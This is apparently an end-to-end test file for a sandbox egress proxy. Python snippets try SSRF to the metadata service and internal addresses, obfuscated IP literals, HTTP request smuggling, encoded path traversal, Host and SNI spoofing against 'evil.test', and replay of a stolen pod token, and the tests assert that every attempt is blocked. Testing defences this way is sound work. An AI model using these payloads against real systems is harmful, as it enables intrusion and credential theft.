package dev.wheelhouse.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.wheelhouse.core.journal.Entry;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The one way out of a sandbox, tried by a hostile program: hosts, methods and paths that the Agent allows, with a
 * credential that the sandbox never sees; and the port of the runtime behind it, tried with other identities.
 */
class EscapeProxyE2E {
    @RegisterExtension
    static final Spaces SPACES = new Spaces();

    private static final String CANARY = "CANARY-6f1d0c9b7a";

    /** How to speak to the proxy without a library that would put things right. */
    private static final String RAW = """
        import ssl, urllib.request, urllib.error
        def proxy(text, then=None, sni=None):
            s = socket.create_connection(('127.0.0.1', 3128), 5)
            s.settimeout(8)
            s.sendall(text.encode('latin-1'))
            if then is not None:
                head = b''
                while b'\\r\\n\\r\\n' not in head:
                    got = s.recv(1)
                    if not got: break
                    head += got
                if b' 200' not in head.split(b'\\r\\n')[0]:
                    raise Exception('refused: ' + head.decode('latin-1')[:200])
                context = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
                if sni != HOST: context.check_hostname = False
                s = context.wrap_socket(s, server_hostname=sni)
                s.sendall(then.encode('latin-1'))
            answer = b''
            while True:
                try: got = s.recv(65536)
                except (TimeoutError, OSError): break
                if not got: break
                answer += got
            status = answer.split(b'\\r\\n')[0].decode('latin-1')
            if not answer: raise Exception('closed without an answer')
            if ' 2' in status[:13] or ' 3' in status[:13]: return answer.decode('latin-1')[:400]
            raise Exception('refused: ' + answer.decode('latin-1')[:300])
        def get(url, **headers):
            return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10)
        def inside(request, sni=None):
            return proxy('CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n' % (HOST, HOST), request, sni or HOST)
        """;

    private static Space space;
    private static Upstream upstream;
    private static Lab lab;

    @BeforeAll
    static void open() {
        space = SPACES.openForClass("proxy");
        upstream = new Upstream(space);
        space.tenant("runtime: {cpu: 10m, replicas: 1}\nsandbox: {privateNetworks: ['10.96.0.0/16'], caBundle: "
                + Serialization.asJson(upstream.pem()) + "}\n");
        space.create("apiVersion: v1\nkind: Secret\nmetadata: {name: key}\nstringData: {token: " + CANARY + "}\n");
        lab = Lab.open(space, "mallory", """
            {scope: Tenant, idleSeconds: 600, egress: [
              {host: %1$s, paths: ['/open/*'], credential: {prefix: 'Bearer ', secret: {name: key, key: token}}},
              {host: kubernetes.default.svc.cluster.local, paths: ['/*']},
              {host: plain.invalid, scheme: http, paths: ['/*']}]}""".formatted(upstream.host()).replace("\n", " "));
    }

    @AfterAll
    static void close() {
        upstream.close();
    }

    private static String python(String run, String code) {
        return lab.python(run, "HOST = '" + upstream.host() + "'\n" + RAW + code);
    }

    @Test
    void what_is_allowed_works_with_a_credential_that_is_never_seen() {
        String told = python("allowed", """
            r = get('https://%s/open/data' % HOST, Authorization='Bearer mine')
            print('STATUS', r.status, dict(r.headers), r.read().decode())
            """);
        assertTrue(told.contains("STATUS 200") && told.contains("you sent"), told);
        assertFalse(told.contains(CANARY) || told.contains("Q0FOQVJZ"), told);
        var request = upstream.seen().stream()
                .filter(seen -> seen.path().equals("/open/data"))
                .findFirst()
                .orElseThrow();
        assertEquals("Bearer " + CANARY, request.authorization());
        String journal = new Journal(space, "allowed").maps().toString();
        assertTrue(journal.contains("EgressRequested") && journal.contains("/open/data"), journal);
        assertFalse(journal.contains(CANARY), "the credential is in the journal");
    }

    @TestFactory
    Stream<DynamicTest> nothing_else_passes() {
        Map<String, String> attempts = new LinkedHashMap<>();
        attempts.put("a host that is not allowed", "get('https://evil.test/').status");
        attempts.put("around the proxy", "tcp(HOST, 443)");
        attempts.put("a tunnel to an address", "proxy('CONNECT 10.96.0.1:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')");
        attempts.put(
                "a tunnel to the metadata service",
                "proxy('CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')");
        attempts.put("a tunnel to another port", "proxy('CONNECT %s:22 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % HOST)");
        attempts.put("a tunnel to localhost", "proxy('CONNECT localhost:8080 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')");
        attempts.put(
                "an address as one number",
                "proxy('GET http://2852039166/ HTTP/1.1\\r\\nHost: 2852039166\\r\\n\\r\\n')");
        attempts.put(
                "an address in hexadecimal",
                "proxy('GET http://0xa9fea9fe/ HTTP/1.1\\r\\nHost: 0xa9fea9fe\\r\\n\\r\\n')");
        attempts.put(
                "another name in TLS", "inside('GET /open/x HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % HOST, 'evil.test')");
        attempts.put("another Host in the tunnel", "inside('GET /open/x HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')");
        attempts.put(
                "two Hosts in the tunnel",
                "inside('GET /open/x HTTP/1.1\\r\\nHost: %s\\r\\nHost: evil.test\\r\\n\\r\\n' % HOST)");
        attempts.put(
                "a whole URL in the tunnel",
                "inside('GET https://evil.test/open/x HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % HOST)");
        attempts.put("a path that is not allowed", "inside('GET /admin HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % HOST)");
        attempts.put("a path that climbs", "inside('GET /open/../admin HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % HOST)");
        attempts.put(
                "a path that climbs in disguise",
                "inside('GET /open/%%2e%%2e/admin HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % HOST)");
        attempts.put(
                "a method that is not allowed", "inside('DELETE /open/x HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % HOST)");
        attempts.put(
                "two lengths",
                "inside('POST /open/x HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % HOST)");
        attempts.put(
                "a request inside a body",
                "(lambda r: r if '/admin' in r or r.count('HTTP/1.1 200') > 1 else None)(inside('GET /open/x HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 36\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: evil\\r\\n\\r\\n' % HOST))");
        attempts.put(
                "a body of nonsense chunks",
                "inside('GET /open/x HTTP/1.1\\r\\nHost: %s\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nZZ\\r\\nxx\\r\\n' % HOST)");
        attempts.put(
                "a change of protocol",
                "(lambda r: r if ' 101' in r else None)(inside('GET /open/x HTTP/1.1\\r\\nHost: %s\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n' % HOST))");
        attempts.put("a redirect to a private address", "get('https://%s/open/redirect' % HOST).status");
        attempts.put(
                "the API server by an allowed name",
                "get('https://kubernetes.default.svc.cluster.local/version').status");
        attempts.put(
                "plain HTTP to a host of https",
                "proxy('GET http://%s/open/x HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (HOST, HOST))");
        attempts.put(
                "another Host in plain HTTP",
                "proxy('GET http://plain.invalid/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % HOST)");
        var names = attempts.keySet().iterator();
        return Stream.iterate(0, i -> i + 1).limit(attempts.size()).map(i -> {
            String name = names.next();
            return DynamicTest.dynamicTest(name, () -> {
                String told = python(
                        "x-" + i, "attempt(" + Serialization.asJson(name) + ", lambda: " + attempts.get(name) + ")\n");
                assertTrue(told.contains("HELD " + name), told);
                assertFalse(told.contains("ESCAPED"), told);
                upstream.seen().forEach(seen -> {
                    assertTrue(seen.path().startsWith("/open/"), seen::toString);
                    assertFalse(seen.path().contains(".."), seen::toString);
                    assertEquals("GET", seen.method());
                    assertEquals(upstream.host(), seen.host());
                });
            });
        });
    }

    @TestFactory
    Stream<DynamicTest> the_runtime_knows_who_is_who() {
        return Stream.of("a token of nothing", "no token", "a session of nobody", "garbage", "a frame without end")
                .map(name -> DynamicTest.dynamicTest(name, () -> {
                    String runtime = space.runtimePods().getFirst().getStatus().getPodIP();
                    String told = python("id-" + name.replace(' ', '-'), """
                        def frame(kind, *fields):
                            body = bytes([kind])
                            for f in fields: body += struct.pack('>i', f) if isinstance(f, int) else struct.pack('>i', len(f)) + f.encode()
                            return struct.pack('>i', len(body)) + body
                        def say(data):
                            s = socket.create_connection(('%s', 8082), 3)
                            s.settimeout(7)
                            s.sendall(data)
                            answer = s.recv(4096)
                            return answer if answer and answer[4] == WELCOME else None
                        """.formatted(runtime) + identity(name));
                    assertTrue(told.contains("HELD") && !told.contains("ESCAPED"), told);
                }));
    }

    private static String identity(String name) {
        String code = switch (name) {
            case "a token of nothing" -> "say(frame(HELLO, 1, 'a.b.c', 'pod'))";
            case "no token" -> "say(frame(HELLO, 1, '', 'pod'))";
            case "a session of nobody" -> "say(frame(OPEN, '0' * 64))";
            case "garbage" -> "say(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' * 100)";
            default -> "say(struct.pack('>i', 2**31 - 1) + b'x' * 100)";
        };
        return "HELLO, OPEN, WELCOME = 1, 2, 65\nattempt('" + name + "', lambda: " + code + ")\n";
    }

    /** A token that leaks is of no use where it was not made for. */
    @Test
    void a_token_replayed_from_another_pod_is_refused() {
        Lab other = Lab.open(space, "thief", "{}");
        String told = python("stolen", "print('TOKEN=' + open('/var/run/wheelhouse/token').read() + '=')\n");
        String token = told.replaceAll("(?s).*TOKEN=([^=\\s]+)=.*", "$1");
        String runtime = space.runtimePods().getFirst().getStatus().getPodIP();
        String pod = space.get("stolen").getStatus().sandbox().pod();
        String tried = other.python("thief", """
            def hello(token, pod):
                body = bytes([1]) + struct.pack('>i', 1) + b''.join(struct.pack('>i', len(f)) + f.encode() for f in (token, pod))
                s = socket.create_connection(('%s', 8082), 3)
                s.settimeout(7)
                s.sendall(struct.pack('>i', len(body)) + body)
                answer = s.recv(4096)
                return answer if answer and answer[4] == 65 else None
            attempt('replay', lambda: hello('%s', '%s'))
            attempt('own token, other name', lambda: hello(open('/var/run/wheelhouse/token').read(), '%s'))
            """.formatted(runtime, token, pod, pod));
        assertTrue(tried.contains("HELD replay"), tried);
        assertFalse(tried.contains("ESCAPED replay"), tried);
    }

    @Test
    void every_request_is_in_the_journal() {
        python(
                "journaled",
                "attempt('x', lambda: get('https://evil.test/' + 'q?secret=1').status)\n"
                        + "attempt('y', lambda: get('https://%s/open/y' % HOST).status)\n");
        var records = new Journal(space, "journaled").records();
        long requested = records.stream()
                .filter(record -> record.entry().getClass().getSimpleName().equals("EgressRequested"))
                .count();
        assertEquals(2, requested, records::toString);
        assertFalse(
                records.stream()
                        .filter(record ->
                                record.entry().getClass().getSimpleName().startsWith("Egress"))
                        .anyMatch(record -> record.toString().contains("secret=1")),
                records::toString);
        assertTrue(
                new Journal(space, "journaled").entries(Entry.ToolOutcome.class).size() == 2);
    }
}
